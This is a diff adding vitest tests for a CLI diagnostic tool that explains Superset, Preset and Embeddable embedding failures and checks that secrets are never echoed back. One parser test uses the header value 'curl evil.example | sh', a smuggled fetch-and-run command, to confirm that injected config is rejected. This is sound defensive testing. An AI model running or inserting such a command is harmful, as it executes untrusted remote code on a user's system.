@@ -1,0 +1,209 @@
+import { describe, expect, test } from 'vitest'
+import type { Check } from '../../../src/cli/doctor/check'
+import { embeddableToken } from '../../../src/cli/doctor/embeddable/token'
+import { presetKey } from '../../../src/cli/doctor/preset/key'
+import { presetMint } from '../../../src/cli/doctor/preset/mint'
+import type { Subject } from '../../../src/cli/doctor/subject'
+import { readBootstrap } from '../../../src/cli/doctor/superset/bootstrap'
+import { chartData } from '../../../src/cli/doctor/superset/chart-data'
+import { guestRole } from '../../../src/cli/doctor/superset/guest-role'
+import { login } from '../../../src/cli/doctor/superset/login'
+import { mint } from '../../../src/cli/doctor/superset/mint'
+import { echoesOf } from '../../helpers/echoes'
+import { answering } from './answering'
+
+const CSRF = '/api/v1/security/csrf_token/'
+const ACCOUNT = { username: 'ada', password: 'a-password', provider: 'db' } as const
+const LOGGED_IN = { '/api/v1/security/login': [200, { access_token: 'an-access-token' }] as const }
+
+async function foundBy(check: Check, subject: Subject) {
+  const [finding] = (await check.run(subject)).findings
+  return { ...finding, text: JSON.stringify(finding) }
+}
+
+describe('the login check', () => {
+  test('tells a login that failed from a session that did not start', async () => {
+    const refused = { '/api/v1/security/login': [401, { message: 'Not authorized' }] as const }
+    expect(await foundBy(login, { ...answering(refused), account: ACCOUNT })).toMatchObject({
+      id: 'login-refused',
+      what: expect.stringMatching(/^The login failed\. .* answered 401: .* Its reason: "Not authorized"\.$/),
+    })
+    const started = { ...LOGGED_IN, [CSRF]: [422, { msg: 'Subject must be a string' }] as const }
+    expect(await foundBy(login, { ...answering(started), account: ACCOUNT })).toMatchObject({
+      id: 'session-refused',
+      what: expect.stringMatching(
+        /^Superset did not start a session\. .* answered 422: PyJWT 2\.10 .*JWT_VERIFY_SUB = False.* Its reason: "Subject must be a string"\.$/,
+      ),
+      fix: expect.stringContaining('The password is right.'),
+    })
+  })
+
+  test.each([
+    ['Signature verification failed', 'another party signed'],
+    ['The specified alg value is not allowed', 'another party signed'],
+    ['Token has expired', 'has expired'],
+  ])('explains an access token that is refused with "%s"', async (msg, words) => {
+    const subject = { ...answering({ [CSRF]: [422, { msg }] }), account: { accessToken: 'a.b.c' } }
+    const { id, what, fix } = (await foundBy(login, subject)) as Record<string, string>
+    expect(id).toBe('session-refused')
+    expect(what).toContain(words)
+    expect(what).toContain(`Its reason: "${msg}".`)
+    expect(fix).toContain('GUESTPASS_SUPERSET_ACCESS_TOKEN')
+  })
+
+  test('names the origin of a redirect', async () => {
+    const redirect = async () =>
+      new Response(null, { status: 302, headers: { location: 'https://sso.example.com/login?next=x' } })
+    const subject = { ...answering({}), fetch: redirect, account: ACCOUNT }
+    const { id, what } = (await foundBy(login, subject)) as Record<string, string>
+    expect(id).toBe('login-failed')
+    expect(what).toContain('a redirect to https://sso.example.com:')
+    expect(what).not.toContain('next=')
+  })
+})
+
+describe('the mint check', () => {
+  const minting = (answer: () => Response): Subject => {
+    const subject = answering({})
+    return { ...subject, session: { ...subject.session, post: async () => answer() } as never }
+  }
+  const redirectTo = (location: string) => () => {
+    const response = new Response(null, { status: 302, headers: { location } })
+    return Object.defineProperty(response, 'url', {
+      value: 'https://bi.example.com/api/v1/security/guest_token/',
+    })
+  }
+
+  test.each([
+    ['https://sso.example.com/login?next=/x', 'mint-redirected', 'https://sso.example.com (302)'],
+    ['/login/?next=/x', 'mint-csrf', 'It redirects to https://bi.example.com.'],
+    ['', 'mint-csrf', 'Superset misses its CSRF token'],
+  ])('of a mint that is redirected to "%s" finds %s', async (location, id, words) => {
+    const finding = await foundBy(mint, minting(redirectTo(location)))
+    expect(finding).toMatchObject({ id, what: expect.stringContaining(words) })
+    expect(finding.text).not.toContain('next=')
+  })
+
+  test.each([
+    [403, { message: 'Forbidden' }, 'cannot-grant-token', 'Forbidden'],
+    [400, { message: 'Guest token validation failed' }, 'validator-hook', 'Guest token validation failed'],
+    [422, { msg: 'Not enough segments' }, 'mint-broken', 'Not enough segments'],
+    [
+      400,
+      { errors: [{ message: 'The CSRF tokens do not match.' }] },
+      'mint-csrf',
+      'The CSRF tokens do not match',
+    ],
+  ])('shows the reason of a %d: %j', async (status, body, id, reason) => {
+    expect(
+      await foundBy(
+        mint,
+        minting(() => Response.json(body, { status })),
+      ),
+    ).toMatchObject({
+      id,
+      what: expect.stringContaining(` Its reason: "${reason}".`),
+    })
+  })
+})
+
+describe('the guest role check names the header that Superset is configured with', () => {
+  const me = { '/api/v1/me/roles/': [401, { msg: 'Missing Authorization Header' }] as const }
+
+  test.each([
+    [undefined, 'Let the header X-GuestToken through'],
+    ['X-Embed-Token', 'Let the header X-Embed-Token through'],
+    ['X_Embed_Token', 'drop the header X_Embed_Token'],
+    ['X_Embed_Token', '\n  GUEST_TOKEN_HEADER_NAME = "X-Embed-Token"'],
+  ])('%s: %j', async (guestHeader, fix) => {
+    const subject = { ...answering(me), token: 'a.b.c', ...(guestHeader && { guestHeader }) }
+    expect(await foundBy(guestRole, subject)).toMatchObject({
+      id: 'guest-token-refused',
+      what: expect.stringContaining('Its reason: "Missing Authorization Header".'),
+      fix: expect.stringContaining(fix),
+    })
+  })
+
+  test.each([
+    ['X-Embed-Token', 'X-Embed-Token'],
+    ['X_Embed_Token', 'X_Embed_Token'],
+    ['X\n  curl evil.example | sh', undefined],
+    ['X\u202e', undefined],
+    ['', undefined],
+    ['x'.repeat(101), undefined],
+    [7, undefined],
+  ])('%j of the page is read as %j', (name, read) => {
+    const data = JSON.stringify({ common: {}, config: { GUEST_TOKEN_HEADER_NAME: name } })
+    const html = `<div data-bootstrap="${data.replaceAll('"', '&#34;')}"></div>`
+    expect(readBootstrap(html)?.guestHeader).toBe(read)
+  })
+})
+
+test("Preset's and Embeddable's reasons are shown", async () => {
+  const answer = (body: unknown, status: number) => async () => Response.json(body, { status })
+  const preset = { team: 'a1', workspace: 'b2', name: 'key-name', secret: 'key-secret' }
+  const embeddable = { id: 'e1', region: 'us', apiKey: 'api-key' }
+  const { errors } = { errors: [{ message: 'Invalid API key' }] }
+  expect(
+    (await foundBy(presetKey, { ...answering({}), fetch: answer({ errors }, 401), preset })).text,
+  ).toContain('Invalid API key')
+  const minting = { ...answering({}), preset, presetToken: 'a.b.c' }
+  const unknown = answer({ errors: [{ message: 'Workspace not found' }] }, 404)
+  expect((await foundBy(presetMint, { ...minting, fetch: unknown })).text).toContain('Workspace not found')
+  const forbidden = answer({ errorMessage: 'The API key is not allowed' }, 403)
+  expect((await foundBy(embeddableToken, { ...answering({}), fetch: forbidden, embeddable })).text).toContain(
+    'The API key is not allowed',
+  )
+})
+
+/** No part of these is a word of English. */
+const CANARIES = {
+  password: 'qzxv7kwjpfgh3dq',
+  accessToken: 'eyJxqzvw.kjxqwvz9.zkqxjwv0',
+  apiKey: 'wqzxjk8vbnqzt',
+  rule: 'xqjzwkvbpfq',
+}
+const PIECES = Object.values(CANARIES).flatMap((canary) =>
+  Array.from({ length: canary.length - 3 }, (_, index) => canary.slice(index, index + 4)),
+)
+
+describe('no check shows what was sent, when the server repeats it', () => {
+  const { password, accessToken, apiKey, rule } = CANARIES
+  const chart = { id: 5, name: 'Revenue', datasetId: 3, formData: {} }
+
+  const CASES: readonly (readonly [string, Check, Partial<Subject>])[] = [
+    ['login', login, { account: { ...ACCOUNT, password } }],
+    ['login with an access token', login, { account: { accessToken } }],
+    ['mint', mint, { rls: [{ clause: `tenant = '${rule}'` }] }],
+    ['guest-role', guestRole, { token: accessToken }],
+    ['chart-data', chartData, { charts: [chart], token: accessToken }],
+    ['preset-key', presetKey, { preset: { team: 'a', workspace: 'b', name: 'c', secret: password } }],
+    [
+      'preset-mint',
+      presetMint,
+      { preset: { team: 'a', workspace: 'b', name: 'c', secret: password }, presetToken: accessToken },
+    ],
+    ['embeddable-token', embeddableToken, { embeddable: { id: 'e', region: 'us', apiKey } }],
+  ]
+
+  test.each(CASES)('%s', async (_name, check, parts) => {
+    for (const status of [302, 400, 401, 422, 500]) {
+      for (const echo of Object.values(CANARIES).flatMap(echoesOf)) {
+        const part = encodeURIComponent(echo)
+        const location = `https://${part}@sso.example.com/${part}?next=${part}#${part}`
+        const body = {
+          msg: echo,
+          message: { field: [echo] },
+          errors: [{ message: echo }],
+          errorMessage: echo,
+        }
+        const answer = async () => Response.json(body, { status, headers: { location } })
+        const session = { url: 'https://bi.example.com', accessToken, get: answer, post: answer, put: answer }
+        const subject = { ...answering({}), fetch: answer, guest: answer, session, ...parts }
+        const { text } = await foundBy(check, subject)
+        const piece = PIECES.find((one) => text.toLowerCase().includes(one.toLowerCase()))
+        expect(piece, `${status} ${echo}: ${text}`).toBeUndefined()
+      }
+    }
+  })
+})
